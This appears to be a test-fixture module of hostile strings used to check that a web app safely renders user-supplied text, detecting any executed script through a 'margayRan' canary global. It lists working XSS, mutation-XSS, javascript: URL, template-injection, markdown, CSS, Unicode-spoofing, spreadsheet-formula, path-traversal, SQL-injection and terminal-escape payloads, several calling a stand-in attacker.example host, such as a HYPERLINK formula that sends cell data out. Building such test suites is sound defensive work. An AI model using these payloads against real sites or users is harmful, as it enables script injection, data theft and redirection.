// Texts that would run, lead away or break a page where text is taken for something else. Every place that shows
// what somebody else wrote is tried with all of them. A script that ran would set the global `margayRan`.

/** The global that a script of a payload would set. */
export const CANARY = 'margayRan';
const RUN = `${CANARY}=1`;
/** How long the long ones are: longer than any line, shorter than what the server cuts. */
const LONG = 600;

/** Elements whose handlers run by themselves. */
const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<ScRiPt >${RUN}</sCrIpT >`,
  `<script/src=data:,${RUN}></script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x:x onerror="${RUN}" //`,
  `<image href=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>go on</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><a href=javascript:${RUN}/></svg>#x">`,
  `<body onload=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src onloadstart=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<div style="animation:x" onanimationstart=${RUN}>`,
  `<form action=javascript:${RUN}><button>send</button></form>`,
  `<button formaction=javascript:${RUN}>send</button>`,
  `<iframe src=javascript:${RUN}></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<embed src=javascript:${RUN}>`,
  `<link rel=stylesheet href=//attacker.example/x.css>`,
  `<link rel=import href=data:text/html,<script>${RUN}</script>>`,
  `<base href=//attacker.example/>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<meta http-equiv=refresh content="0;url=https://attacker.example/">`,
  `<template><img src=x onerror=${RUN}></template>`,
];
/** What closes the element, attribute or comment around it. */
const BREAKING_OUT = [
  `"><img src=x onerror=${RUN}>`,
  `'><svg onload=${RUN}>`,
  `" onmouseover="${RUN}" autofocus onfocus="${RUN}`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `--><img src=x onerror=${RUN}>`,
  `]]><script>${RUN}</script>`,
];
/** What one parser reads otherwise than the next. */
const MUTATIONS = [
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<a href="x"><div><a href="y" onclick=${RUN}></div>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
];
/** Addresses that are code. */
const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}//https://example.com/`,
  `java&#x09;script:${RUN}`,
  `javascript://example.com/%0a${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5tYXJnYXlSYW49MTwvc2NyaXB0Pg==`,
  `vbscript:${RUN}`,
  `//attacker.example/x`,
];
/** What is taken for markup a second time. */
const ENTITIES = [
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `&amp;lt;svg onload=${RUN}&amp;gt;`,
  `%3Cimg%20src%3Dx%20onerror%3D${CANARY}%3D1%3E`,
  `\\u003cimg src=x onerror=${RUN}\\u003e`,
];
const TEMPLATES = [
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `{%raw%}{{7*7}}{%endraw%}`,
  `\`-${RUN}-\``,
  `';${RUN};//`,
];
const STYLES = [
  `<style>body{display:none}</style>`,
  `<style>@import '//attacker.example/x.css';</style>`,
  `<p style="position:fixed;inset:0;background:url(//attacker.example/x)">`,
  `color:red;background:url(javascript:${RUN})`,
];
const MARKDOWN = [
  `[go on](javascript:${RUN})`,
  `[go on](data:text/html,<script>${RUN}</script>)`,
  `![](https://attacker.example/pixel.png)`,
  `![x](javascript:${RUN})`,
  `<javascript:${RUN}>`,
  `[go on]: javascript:${RUN}`,
  `\`\`\`html <img src=x onerror=${RUN}>`,
  `**bold <img src=x onerror=${RUN}>** _and so on_`,
  `| <svg onload=${RUN}> | x |`,
];
/** What turns or hides what is around it; what other programs take for commands. */
const UNICODE = [
  `invoice \u202Egpj.exe\u202C`,
  `a\u2066b\u2067c\u2069d\u200Be`,
  `zero\uFEFF width\u200D`,
  `Z\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351algo`,
  `＜img src=x onerror=${RUN}＞`,
  `\u2028${RUN}\u2029`,
];
const PROGRAMS = [
  `=HYPERLINK("https://attacker.example/?"&A1,"go on")`,
  `@SUM(1+1)*cmd|'/C calc'!A0`,
  `+1-1|x`,
  `../../../../etc/passwd`,
  `..\\..\\windows\\win.ini`,
  `C:\\nul`,
  `__proto__`,
  `constructor`,
  `toString`,
  `'; DROP TABLE alerts; --`,
  `%s%n%x`,
];
/** Characters below the blank; names may not have them, logs may. */
export const CONTROLS = [
  `\u001B[2J\u001B[31mred\u001B[0m`,
  `\u001B]8;;https://attacker.example/\u0007go on\u001B]8;;\u0007`,
  `a\u0001b\u0008\u0008c\u007F`,
  `tab\tand\u000Bmore <img src=x onerror=${RUN}>`,
];
/** What is wider than any screen. */
const LONG_ONES = [`<b>${'W'.repeat(LONG)}`, `${'\u{1F4A5}'.repeat(LONG / 4)}<i>`];

/** What fits in one line and in any name. */
export const LINES = [
  ...ELEMENTS, ...BREAKING_OUT, ...MUTATIONS, ...ADDRESSES, ...ENTITIES, ...TEMPLATES, ...STYLES, ...MARKDOWN, ...PROGRAMS,
];
/** Everything. */
export const HOSTILE = [...LINES, ...UNICODE, ...CONTROLS, ...LONG_ONES];
/** What a header of HTTP may hold. */
export const ASCII = LINES.filter((text) => /^[\x20-\x7e]+$/.test(text));
/** A few, of several kinds. */
export const SOME = [
  `<img src=x onerror=${RUN}>`, `"><img src=x onerror=${RUN}>`, `javascript:${RUN}`, `{{constructor.constructor('${RUN}')()}}`,
  `[go on](javascript:${RUN})`, `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`, '__proto__',
];
